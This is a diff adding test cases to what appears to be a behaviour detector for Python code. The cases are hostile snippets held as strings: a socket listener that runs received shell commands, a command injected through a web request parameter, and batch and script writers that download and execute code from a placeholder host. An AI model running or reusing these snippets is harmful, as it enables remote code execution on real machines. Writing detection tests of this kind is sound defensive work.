@@ -188,6 +188,7 @@ const CASES: readonly (readonly [wanted: string, source: string])[] = [
   ['check-privilege', 'import os\nos.geteuid()'],
   ['delay', 'import time\ntime.sleep(60)'],
   ['disable-security', 'import ssl\nssl._create_default_https_context = ssl._create_unverified_context'],
+  ['download-file', 'import git\ngit.Repo.clone_from("https://host.invalid/x.git", "/tmp/x")'],
   ['disable-security', 'import requests\nrequests.get("https://example.com", verify=False)'],
   ['exit-process', 'import os\nos._exit(0)'],
   // Concealment
@@ -195,6 +196,47 @@ const CASES: readonly (readonly [wanted: string, source: string])[] = [
   ['hide-unicode', 'x = "\u202e"'],
   ['hide-window', 'import ctypes\nctypes.windll.user32.ShowWindow(w, 0)'],
 ];
+
+describe('python: what comes in, what was written, class bodies', () => {
+  const MANY: readonly (readonly [name: string, source: string, wanted: readonly string[]])[] = [
+    [
+      'a connection that gets a shell',
+      'import socket, subprocess\ns = socket.socket()\ns.bind(("", 1))\nc, a = s.accept()\nc.send(subprocess.getoutput(c.recv(9).decode()).encode())',
+      ['listen', 'run-shell carries:download', 'open-socket carries:output'],
+    ],
+    [
+      'a query that is run',
+      'import os\nfrom flask import request\nos.system(request.args.get("c"))',
+      ['run-shell carries:download'],
+    ],
+    [
+      'a batch file written and started',
+      'import os\nopen("C:/x.bat", "w").write("curl https://host.invalid/a.exe -o a.exe\\nstart a.exe")\nos.startfile("C:/x.bat")',
+      ['write-executable', 'run-program', 'download-file hidden', 'run-downloaded'],
+    ],
+    [
+      'a variable of a class body',
+      'import os\nclass A:\n  c = "curl https://host.invalid/x"\n  os.system(c)',
+      ['run-shell program:download', 'http-request to:other'],
+    ],
+    [
+      'a script written and run in a class body',
+      'import os\nclass A:\n  f = open("/tmp/a.py", "w")\n  f.write("import urllib.request as u;exec(u.urlopen(\'https://host.invalid/x\').read())")\n  f.close()\n  os.system("python /tmp/a.py")',
+      ['write-executable', 'run-own-file', 'evaluate-downloaded hidden'],
+    ],
+    [
+      'a method sees no variable of the class body',
+      'import os\nclass A:\n  c = "curl https://host.invalid/x"\n  def f(self):\n    os.system(c)\nA().f()',
+      ['run-shell program:unknown', '!http-request'],
+    ],
+    [
+      'an address logger',
+      'import requests\nrequests.get("https://iplogger.com/x")',
+      ['http-request to:catcher'],
+    ],
+  ];
+  for (const [name, source, wanted] of MANY) it(name, () => expectBehaviors(source, wanted));
+});
 
 describe('python: every row', () => {
   for (const [wanted, source] of CASES) {
